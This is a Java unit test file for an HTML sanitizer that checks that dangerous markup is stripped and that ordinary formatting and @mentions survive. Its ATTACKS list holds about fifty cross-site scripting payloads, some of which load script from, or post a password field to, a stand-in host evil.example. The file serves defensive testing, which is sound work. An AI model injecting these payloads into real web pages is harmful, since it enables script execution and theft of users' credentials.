package org.passerelle.content.service;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.passerelle.people.Person;

class RichTextTest {

    /** Ways known to make a browser run something, or to dress a text up as the house itself. */
    static final List<String> ATTACKS =
            List.of(
                    "<script>alert(1)</script>",
                    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                    "<scr<script>ipt>alert(1)</scr</script>ipt>",
                    "<img src=x onerror=alert(1)>",
                    "<img src=x:x onerror\n=alert(1)>",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert(1)</script></svg>",
                    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
                    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                    "<iframe src=\"javascript:alert(1)\"></iframe>",
                    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                    "<object data=\"javascript:alert(1)\"></object>",
                    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
                    "<a href=\"javascript:alert(1)\">x</a>",
                    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                    "<a href=\"java\tscript:alert(1)\">x</a>",
                    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
                    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
                    "<a href=\"\u0001javascript:alert(1)\">x</a>",
                    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                    "<a href=\"vbscript:msgbox(1)\">x</a>",
                    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
                    "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>",
                    "<p style=\"background:url(javascript:alert(1))\">x</p>",
                    "<p onmouseover='alert(1)' class='notice' id='contenu'>x</p>",
                    "<style>@import 'https://evil.example/x.css';</style>",
                    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                    "<link rel=stylesheet href=https://evil.example/x.css>",
                    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                    "<base href=\"https://evil.example/\">",
                    "<form action=https://evil.example><input name=password><button>Ok</button></form>",
                    "<button formaction=javascript:alert(1)>x</button>",
                    "<details open ontoggle=alert(1)>",
                    "<video><source onerror=alert(1)></video>",
                    "<body onload=alert(1)>",
                    "<template><script>alert(1)</script></template>",
                    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
                    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
                    "<![CDATA[<script>alert(1)</script>]]>",
                    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                    "<!--><img src=x onerror=alert(1)>-->",
                    "<p>{{constructor.constructor('alert(1)')()}}</p><xmp><img src=x onerror=alert(1)></xmp>",
                    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x</td></table>",
                    "<p contenteditable autofocus onfocus=alert(1) tabindex=0>x</p>",
                    "<portal src=https://evil.example></portal><p is=x-evil>x</p>");

    /** All that may ever come out, whatever went in. */
    private static final Pattern HARMLESS_TAG =
            Pattern.compile(
                    "</?(?:p|h[234]|strong|b|em|i|u|s|sub|sup|ul|ol|li|blockquote|pre|code|table|caption"
                            + "|thead|tbody|tr|th|td|a)>|<(?:br|hr) />|<th scope=\"(?:row|col)\">"
                            // Parts two braces, for the templates of others.
                            + "|<!-- -->"
                            + "|<t[hd](?: (?:col|row)span=\"\\d+\")+>"
                            + "|<a href=\"(?:https?://|mailto:|/)[^\"<>]*\" rel=\"noopener noreferrer\">");

    @ParameterizedTest
    @FieldSource("ATTACKS")
    void nothingThatRunsOrDeceivesSurvives(String attack) {
        assertThat(tagsLeft(RichText.clean(attack))).isEmpty();
        assertThat(tagsLeft(RichText.of("<p>avant</p>" + attack))).isEmpty();
        assertThat(tagsLeft(RichText.show(attack, Map.of(), "/annuaire/personne?id="))).isEmpty();
    }

    private static String tagsLeft(String clean) {
        String words = HARMLESS_TAG.matcher(clean).replaceAll("");
        return words.contains("<") || words.contains(">") ? words : "";
    }

    @Test
    void cleaningTwiceChangesNothing() {
        for (String attack : ATTACKS) {
            String once = RichText.clean(attack);
            assertThat(RichText.clean(once)).isEqualTo(once);
        }
    }

    @Test
    void whatPeopleWriteWithIsKept() {
        String page =
                "<h2>Décisions</h2><ol><li>Un <strong>seul</strong> mot</li></ol>"
                        + "<table><caption>Suites</caption><thead><tr><th scope=\"col\">Quoi</th></tr></thead>"
                        + "<tbody><tr><td>Relire</td></tr></tbody></table><blockquote>Cité</blockquote>";

        assertThat(RichText.of(page)).isEqualTo(page);
    }

    @Test
    void whatIsPastedFromElsewhereBecomesOurOwnElements() {
        assertThat(
                        RichText.of(
                                "<div class=\"MsoNormal\">Un</div><h1>Titre</h1><h6>Petit</h6><p> </p>"))
                .isEqualTo("<p>Un</p><h2>Titre</h2><h4>Petit</h4>");
    }

    @Test
    void aTextWithoutMarkupBecomesParagraphs() {
        assertThat(RichText.of("Premier <b>\r\nsuite\r\n\r\n\r\nSecond & dernier"))
                .isEqualTo("<p>Premier &lt;b&gt;<br />suite</p>\n<p>Second &amp; dernier</p>");
        assertThat(RichText.of("  \n ")).isEmpty();
    }

    @Test
    void aMentionBecomesTheNameAndALinkToTheProfile() {
        Person bruno = new Person("bruno.gagnon", "Bruno", "Gagnon <b>");

        assertThat(
                        RichText.show(
                                "<p>Merci @Bruno.Gagnon.</p>",
                                Map.of("bruno.gagnon", bruno),
                                "/p?id="))
                .isEqualTo(
                        "<p>Merci <a class=\"mention\" href=\"/p?id=null\">@Bruno Gagnon &lt;b&gt;</a>.</p>");
    }

    @Test
    void inALinkNothingIsLinkedAgain() {
        Person bruno = new Person("bruno.gagnon", "Bruno", "Gagnon");
        String linked = "<p><a href=\"https://example.org/@bruno.gagnon\">@bruno.gagnon</a></p>";

        assertThat(RichText.show(linked, Map.of("bruno.gagnon", bruno), "/p?id="))
                .doesNotContain("mention");
    }

    @Test
    void wordsAreThoseThatAReaderSees() {
        assertThat(
                        RichText.words(
                                "<h2>Été &amp; hiver</h2><p>L’un  <em>ou</em><br />l’autre&nbsp;: 5&lt;6</p>"
                                        + "<table><tr><th>Quoi</th><td>Qui</td></tr></table>"))
                .isEqualTo("Été & hiver\nL’un ou\nl’autre\u00a0: 5<6\nQuoi Qui");
    }
}
